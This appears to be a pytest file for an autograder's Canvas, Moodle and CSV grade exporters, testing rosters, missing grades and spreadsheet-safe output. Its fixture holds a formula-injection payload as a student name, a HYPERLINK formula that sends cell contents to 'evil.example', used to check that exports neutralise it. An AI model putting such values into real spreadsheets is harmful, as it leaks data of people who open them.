"""Files for Canvas, Moodle and a spreadsheet, read back as those read them."""

import os
import shutil
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from traitlets.config import Config

from autograder.errors import UserError
from autograder.grading.exports import CanvasExport, CsvExport, MoodleExport
from autograder.grading.platforms.safe_csv import plain
from tests.grading._platforms import read_by_canvas, read_by_moodle, rows

PATH = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
NAME = "01-convolutional-layers"
STUDENTS = {
    "ada": ("Ada", "Lovelace"),
    "bob": ("=2+3", '=HYPERLINK("http://evil.example/"&A1)'),
    "cleo": ("Zoë", 'Müller; "Möller", @home'),
    "dan": ("Dan", "Waits"),
    "eve": ("Eve", "Torn"),
    "fay": ("Fay", "Absent"),
    "gil": ("Gil", "Late"),
}
SCORES = {"ada": 17.0, "bob": 0.0, "cleo": 12.3456, "dan": 5.5, "gil": 10.0}


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A course directory with a gradebook of seven students, among them one torn, one absent, and two evil names."""
    folder = tmp_path_factory.mktemp("made")
    url = f"sqlite:///{folder / 'gradebook.db'}"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", PATH)  # nbgrader calls alembic to make a gradebook
        fill(folder, url)
    return folder


@pytest.fixture
def course(made, tmp_path):
    """A copy of it, to be changed."""
    return Path(shutil.copytree(made, tmp_path / "course"))


def fill(folder, url):
    with Gradebook(url) as gradebook:
        gradebook.add_assignment(NAME, duedate=datetime(2026, 10, 12))
        gradebook.add_assignment("02-another")
        gradebook.add_notebook("n", NAME)
        gradebook.add_grade_cell("conv2d-check", "n", NAME, max_score=17, cell_type="code")
        gradebook.add_grade_cell("written", "n", NAME, max_score=3, cell_type="markdown")
        gradebook.add_solution_cell("written", "n", NAME)
        for student, (first, last) in STUDENTS.items():
            gradebook.add_student(student, first_name=first, last_name=last, email=f"{student}@example.org")
            if student != "fay":
                (folder / "submitted" / student / NAME).mkdir(parents=True)
        for student in (*SCORES, "eve"):
            gradebook.add_submission(NAME, student)
        for student, score in SCORES.items():
            gradebook.find_grade("conv2d-check", "n", NAME, student).auto_score = score
            written = gradebook.find_grade("written", "n", NAME, student)
            if student != "dan":
                written.manual_score, written.needs_manual_grade = 2.0, False  # as formgrader does
        gradebook.find_submission_notebook("n", NAME, "gil").late_submission_penalty = 100.0
        gradebook.db.commit()


def export(plugin_class, course, **options):
    """Run a plugin; return it and the text that it wrote."""
    config = Config(CourseDirectory={"root": str(course)})
    plugin = plugin_class(config=config, to=str(course / "out.csv"), **{"assignment": [NAME], **options})
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        plugin.export(gradebook)
    return plugin, (course / "out.csv").read_text(encoding="utf-8")


ROSTER = {"logins": {name: str(4000 + place) for place, name in enumerate(STUDENTS)}, "names": {}}
EXPECTED = {"ada": 19.0, "bob": 2.0, "cleo": 14.3456, "gil": 0.0}


def test_canvas_finds_every_student_and_reads_the_grade_that_the_gradebook_has(course):
    _, text = export(CanvasExport, course, title="Homework 1 (4711)")
    possible, grades = read_by_canvas(text, ROSTER)
    assert possible == {"Homework 1 (4711)": 20.0}
    read = {student: float(grades[ROSTER["logins"][student]]["Homework 1 (4711)"]) for student in EXPECTED}
    assert read == EXPECTED
    assert len(grades) == len(EXPECTED)


def test_canvas_has_nbgraders_title_where_no_other_is_given(course):
    assert rows(export(CanvasExport, course)[1])[0][5:] == [NAME]


def test_names_come_back_from_the_file_for_canvas(course):
    names = {line[3]: plain(line[0]) for line in rows(export(CanvasExport, course)[1])[2:]}
    assert names == {student: ", ".join(reversed(STUDENTS[student])) for student in EXPECTED}


@pytest.mark.parametrize("by", ["Username", "Email address"])
def test_moodle_finds_every_user_and_reads_the_grade_that_the_gradebook_has(course, by):
    ending = "@example.org" if by == "Email address" else ""
    _, text = export(MoodleExport, course)
    users = {student + ending for student in STUDENTS}
    read = read_by_moodle(text, users, by=by, grade=f"Assignment: {NAME} (Real)")
    assert read == {student + ending: score for student, score in EXPECTED.items()}


@pytest.mark.parametrize("plugin", [CanvasExport, MoodleExport])
def test_who_has_no_grade_is_left_out_and_said(course, plugin):
    exported, text = export(plugin, course)
    assert exported.left_out == {"eve": "not graded", "fay": "not handed in", "dan": "waits for points by hand"}
    assert exported.waiting == []
    assert "eve" not in text
    assert "fay" not in text


@pytest.mark.parametrize("plugin", [CanvasExport, MoodleExport])
def test_the_points_of_who_waits_are_exported_on_demand_and_said(course, plugin):
    exported, text = export(plugin, course, with_waiting=True)
    assert exported.waiting == ["dan"]
    assert next(line for line in rows(text) if "dan" in line)[-1] == "5.5"


def test_an_answer_that_changed_after_it_was_read_waits(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("written", "n", NAME, "ada").needs_manual_grade = True  # as at a regrade
        gradebook.db.commit()
    assert export(CanvasExport, course)[0].left_out["ada"] == "waits for points by hand"
    heading, *lines = rows(export(CsvExport, course)[1])
    (ada,) = [line for line in lines if "ada" in line]
    assert dict(zip(heading, ada, strict=True))["status"] == "waits for points by hand"


def test_a_torn_submission_that_the_gradebook_never_saw_is_not_graded_rather_than_absent(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        gradebook.remove_submission(NAME, "eve")
    assert export(CanvasExport, course)[0].left_out["eve"] == "not graded"


@pytest.mark.parametrize("plugin", [CanvasExport, MoodleExport, CsvExport])
def test_no_cell_runs_in_a_spreadsheet(course, plugin):
    cells = [cell for line in rows(export(plugin, course)[1]) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_login_that_had_to_be_guarded_is_said(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        gradebook.add_student("=x")
        gradebook.add_submission(NAME, "=x")
        for cell in ("conv2d-check", "written"):
            grade = gradebook.find_grade(cell, "n", NAME, "=x")
            grade.manual_score, grade.needs_manual_grade = 1.0, False
        gradebook.db.commit()
    assert export(CanvasExport, course)[0].guarded == ["=x"]


def test_the_spreadsheet_has_everybody_and_why_there_is_no_grade(course):
    heading, *lines = rows(export(CsvExport, course)[1])
    found = {line["student_id"]: line for line in (dict(zip(heading, line, strict=True)) for line in lines)}
    assert set(found) == set(STUDENTS)
    assert (found["eve"]["status"], found["eve"]["score"]) == ("not graded", "")
    assert (found["fay"]["status"], found["fay"]["score"]) == ("not handed in", "")
    assert (found["dan"]["status"], found["dan"]["score"]) == ("waits for points by hand", "5.5")
    assert (found["gil"]["raw_score"], found["gil"]["score"], found["gil"]["max_score"]) == ("12", "0", "20")


def test_only_the_students_that_are_asked_for(course):
    assert export(MoodleExport, course, student=["ada"])[0].written == ["ada"]


@pytest.mark.parametrize("assignment", [[], [NAME, "02-another"], ["nope"]])
def test_a_platforms_file_is_about_one_assignment(course, assignment):
    with pytest.raises(UserError, match=f"the grades of one assignment.*{NAME}"):
        export(CanvasExport, course, assignment=assignment)


def test_nbgraders_own_command_runs_the_plugin(course):
    (course / "nbgrader_config.py").write_text("c = get_config()\n")
    command = ["nbgrader", "export", "--exporter", "autograder.grading.exports.CanvasExport", "--to", "canvas.csv"]
    done = subprocess.run(
        [*command, f'--assignment=["{NAME}"]'], cwd=course, env=os.environ | {"PATH": PATH}, text=True, check=False,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout
    assert "eve is left out: not graded" in done.stdout
    assert len(read_by_canvas((course / "canvas.csv").read_text(), ROSTER)[1]) == len(EXPECTED)
